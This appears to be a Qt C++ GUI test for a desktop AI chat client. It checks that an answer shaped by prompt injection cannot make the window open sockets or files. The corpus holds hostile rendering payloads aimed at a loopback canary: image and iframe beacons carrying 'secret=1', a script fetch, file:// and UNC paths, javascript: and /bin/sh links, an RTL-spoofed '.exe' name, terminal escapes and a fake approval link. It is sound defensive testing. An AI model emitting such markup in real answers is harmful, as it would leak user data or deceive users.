// FI-41: what a prompt-injected answer may try. It is shown in the real window; a canary server on loopback and files nobody may touch
// tell whether anything was opened.
#include "guifixture.h"

#include "gui/chat/chatpage.h"
#include "gui/chat/compose/composeredit.h"
#include "gui/chat/transcript/messagereader.h"
#include "gui/chat/transcript/transcriptview.h"
#include <QClipboard>
#include <QMenu>
#include <QMimeData>
#include <QTextBrowser>
#include <QTimer>

#include <sys/stat.h>

using namespace Qt::StringLiterals;
using namespace desk;
using namespace desk::test;

class TestHostile : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void FI_41_anAnswerOpensNoSocketAndNoFile();
};

namespace {

QByteArray jsonText(const QByteArray &text)
{
    return QByteArray(text)
        .replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\n', "\\n")
        .replace('\x1b', "\\u001b")
        .replace('\x07', "\\u0007");
}

QByteArray corpus(const QByteArray &canary, const QByteArray &fifo)
{
    const QByteArray beacon = canary + "/beacon?secret=1";
    return "![inline](" + beacon + ") ![reference][r] [![nested](" + beacon + ")](" + beacon + ")\n\n[r]: " + beacon + "\n\n<img src=\"" +
           beacon + "\"><iframe src=\"" + beacon + "\"></iframe><script>fetch(\"" + beacon + "\")</script>\n\n" + beacon + " <" + beacon +
           ">\n\n![file](file://" + fifo + ") ![path](" + fifo +
           ") ![unc](\\\\\\\\127.0.0.1\\\\share) ![unc](//127.0.0.1/share)\n\n"
           "[run me](file:///bin/sh) [script](javascript:alert(1)) [data](data:text/html,x)\n\n"
           "`safe\u202Egnp.exe` and \x1b[31mred\x1b[0m and \x1b]8;;" +
           beacon + "\x07link\x1b]8;;\x07\n\n**Approve?** [Yes](" + canary + "/approve)\n\n| a | b |\n|---|---|\n| ![x](" + beacon +
           ") | y |\n\nthe end";
}

} // namespace

void TestHostile::FI_41_anAnswerOpensNoSocketAndNoFile()
{
    FaultServer canary([](const Received &) { return reply(200, "x", "image/png"); });
    GuiFixture gui;
    // Whoever opens it waits for ever: the test would hang and not pass.
    const QString fifo = gui.dir.filePath(u"fifo.png"_s);
    QCOMPARE(::mkfifo(fifo.toLocal8Bit().constData(), 0600), 0);
    const QByteArray text = corpus(canary.url().toString().toUtf8(), fifo.toUtf8());
    const FaultServer::Handler sample = gui.script;
    gui.script = [&](const Received &request) {
        if (request.method == "POST" && request.target.contains("/chat/message"))
            return eventStream(
                {"event: thought\ndata: {\"type\":\"thought\",\"source\":\"x\",\"message\":\"" + jsonText(text) + "\",\"data\":null}\n\n",
                 "event: plan\ndata: {\"type\":\"plan\",\"source\":\"x\",\"message\":\"m\",\"data\":{\"summary\":\"" + jsonText(text) +
                     "\",\"steps\":[{\"id\":\"s\",\"tool\":\"t\",\"objective\":\"" + jsonText(text) + "\"}]}}\n\n",
                 "event: routing_decision\ndata: {\"selected_agents\":[\"" + jsonText(text) + "\"],\"confidence\":0.5,\"reasoning\":\"" +
                     jsonText(text) + "\",\"alternatives\":[\"" + jsonText(text) + "\"]}\n\n",
                 "event: interim\ndata: {\"type\":\"interim\",\"source\":\"x\",\"message\":\"" + jsonText(text) +
                     "\",\"data\":{\"kind\":\"voice_output\",\"audio_url\":\"" + canary.url().toString().toUtf8() + "/a.mp3\"}}\n\n",
                 "event: error\ndata: {\"type\":\"error\",\"source\":\"x\",\"message\":\"" + jsonText(text) + "\",\"data\":null}\n\n",
                 "event: clarify_parallel\ndata: {\"type\":\"clarify_parallel\",\"source\":\"x\",\"message\":\"" + jsonText(text) +
                     "\",\"data\":{\"options\":[\"" + jsonText(text) + "\",\"no\"]}}\n\n",
                 "event: tool_start\ndata: {\"type\":\"tool_start\",\"source\":\"x\",\"message\":\"m\",\"data\":{\"tool_name\":\"t\","
                 "\"input\":{\"html\":\"" +
                     jsonText(text) + "\"},\"call_id\":\"k\"}}\n\n",
                 "event: tool_result\ndata: {\"type\":\"tool_result\",\"source\":\"x\",\"message\":\"m\",\"data\":{\"tool_name\":\"t\","
                 "\"call_id\":\"k\",\"success\":true,\"result\":\"" +
                     jsonText(text) + "\"}}\n\n",
                 "event: content\ndata: {\"type\":\"content\",\"source\":\"x\",\"message\":\"" + jsonText(text) +
                     "\",\"data\":{\"streaming\":true,\"partial\":true}}\n\n",
                 "event: message_complete\ndata: "
                 "{\"message_id\":\"m2\",\"conversation_id\":\"c9\",\"citations\":[{\"file_id\":\"f\",\"filename\":\"" +
                     jsonText(text) + "\",\"page\":1,\"quote\":\"" + jsonText(text) + "\"}]}\n\n"},
                Scripted::End::Close);
        return sample ? sample(request) : Scripted{};
    };
    QVERIFY(gui.show());
    QVERIFY(gui.openAndLoad());
    auto *edit = gui.window->findChild<ComposerEdit *>(u"composerText"_s);
    edit->setFocus();
    QTest::keyClicks(edit, u"Show it"_s);
    QTest::keyClick(edit, Qt::Key_Return);
    TranscriptModel &rows = gui.window->chat().session()->transcript();
    QTRY_VERIFY(rows.rowCount() == 2 && rows.messageAt(1).state == MessageState::Complete);
    QVERIFY(rows.messageAt(1).content.endsWith(u"the end"_s));
    TranscriptView *view = gui.window->chat().transcript();
    QVERIFY(!view->grab().isNull());
    // What opens beside it: why this agent, and the source.
    QTest::mouseClick(view->viewport(), Qt::LeftButton, {}, view->partRect(1, MessagePart::Kind::Routing).center());
    auto *menu = gui.window->chat().findChild<QMenu *>(u"routingMenu"_s);
    QVERIFY(menu && !menu->grab().isNull());
    menu->close();
    Q_EMIT view->citationActivated(1, 0);
    auto *source = gui.window->chat().findChild<QWidget *>(u"sourcePanel"_s);
    QVERIFY(source->isVisible() && !source->grab().isNull());
    QVERIFY(!gui.window->grab().isNull());
    MessageReader reader(rows.messageAt(1));
    reader.show();
    QVERIFY(QTest::qWaitForWindowExposed(&reader));
    const auto *page = reader.findChild<QTextBrowser *>();
    QVERIFY(page);
    const QString seen = page->toPlainText();
    QVERIFY(!seen.contains(QChar(0x202e))); // in code it is shown as a mark, not obeyed (REND-10)
    QVERIFY(!seen.contains(QChar(0x1b)));
    QVERIFY(seen.contains(u"the end"_s));
    view->setFocus();
    QTest::keyClick(view, Qt::Key_A, Qt::ControlModifier);
    QTest::keyClick(view, Qt::Key_C, Qt::ControlModifier);
    QVERIFY(QGuiApplication::clipboard()->mimeData()->hasText());
    QVERIFY(!QGuiApplication::clipboard()->text().contains(QChar(0x1b)));
    // Once more round the event loop: what was asked for would be on its way.
    bool turned = false;
    QTimer::singleShot(300, this, [&turned] { turned = true; });
    QTRY_VERIFY(turned);
    for (const Received &request : canary.received())
        QFAIL(request.head.constData());
}

QTEST_MAIN(TestHostile)
#include "tst_hostile.moc"
